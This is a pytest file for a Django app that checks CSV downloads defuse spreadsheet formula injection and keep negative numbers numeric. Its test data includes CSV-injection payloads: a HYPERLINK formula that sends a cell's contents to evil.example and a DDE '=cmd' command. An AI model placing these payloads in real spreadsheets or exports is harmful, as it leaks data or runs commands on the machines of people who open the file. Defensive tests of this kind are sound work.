"""CSV downloads open in spreadsheets as data, never as formulas (OWASP "CSV injection").

The rule (cxplatform/csvsafe.py): a text cell starting with =, +, -, @, a tab or a
carriage return gets a leading apostrophe, which spreadsheets show as text; numbers the
app writes (int, float, Decimal) stay numbers, so a negative NPS reads as -100, not as
text. Every CSV the app serves is found by walking every GET route of business A; a new
export fails test_every_csv_export_is_known until it is listed (and checked) here.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client

from customers.services import customer_create
from cxplatform.csvsafe import csv_response, safe_cell

from .hostile_world import World, build_world
from .page_walk import all_routes, urls

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-3",  # text that looks like a number is still text
]
# Every CSV download of the app (by route name); each is checked below.
KNOWN_EXPORTS = {"metrics:dashboard-csv", "api:metrics-kpis-csv"}


def table(reply) -> list[list[str]]:
    assert reply["Content-Type"].startswith("text/csv"), (reply.status_code, reply.content[:2000])
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting a formula and not a plain number."""
    return [c for row in rows for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))
            and not is_number(c)]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_starts_a_formula_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-3, -2.5, Decimal("-12.50"), 0, 7])
def test_numbers_the_app_writes_stay_numbers(number):
    assert safe_cell(number) == number


def test_a_download_neutralises_every_customer_cell():
    rows = [["customer", "note", "score"], *[[text, text, -3] for text in FORMULAS]]
    written = table(csv_response("x.csv", rows))
    assert written[0] == ["customer", "note", "score"]
    for (name, note, score), text in zip(written[1:], FORMULAS, strict=True):
        assert name == note == "'" + text
        assert score == "-3" and float(score) == -3
    assert not formula_cells(written)


@pytest.fixture
def world(business_a, alice, django_capture_on_commit_callbacks) -> World:
    built = build_world(business_a, alice, capture=django_capture_on_commit_callbacks)
    # A customer whose words would be formulas, should any export ever show them.
    customer_create(business=business_a, name=FORMULAS[0], phone="+1-555", tags=FORMULAS[2:4])
    return built


def csv_exports(world: World) -> dict[str, list[list[str]]]:
    """Every GET route of business A that answers with a CSV, by route name."""
    owner = Client()
    owner.force_login(world.owner)
    found = {}
    for route in all_routes():
        for url in urls(route, world):
            reply = owner.get(url)
            if reply.status_code == 200 and reply["Content-Type"].startswith("text/csv"):
                found[route.name] = table(reply)
    return found


def test_every_csv_export_is_known_and_runs_no_formula(world):
    exports = csv_exports(world)
    assert set(exports) == KNOWN_EXPORTS
    for name, rows in exports.items():
        assert not formula_cells(rows), name


def test_the_kpi_export_keeps_negative_figures_as_numbers(world, business_a, alice, client_of):
    """The hostile world's two answers are detractors: NPS -100. The KPI export holds
    only dates and the app's figures (its filters are uuids, dates and choices, so no
    customer text can reach it), and its negative figures stay plain numbers."""
    owner = client_of(alice)
    today = date.today().isoformat()
    period = {"start": today, "end": today, "grain": "week"}
    for url in ("/dashboard/kpis.csv", "/api/v1/metrics/kpis/csv/"):
        rows = table(owner.get(url, period))
        header, *data = rows
        nps = [row[header.index("nps")] for row in data if row[header.index("nps")]]
        assert nps and all(float(value) == -100 for value in nps), (url, nps)
        cells = [cell for row in data for cell in row if cell]
        assert all(is_number(cell) or date.fromisoformat(cell[:10]) for cell in cells), url
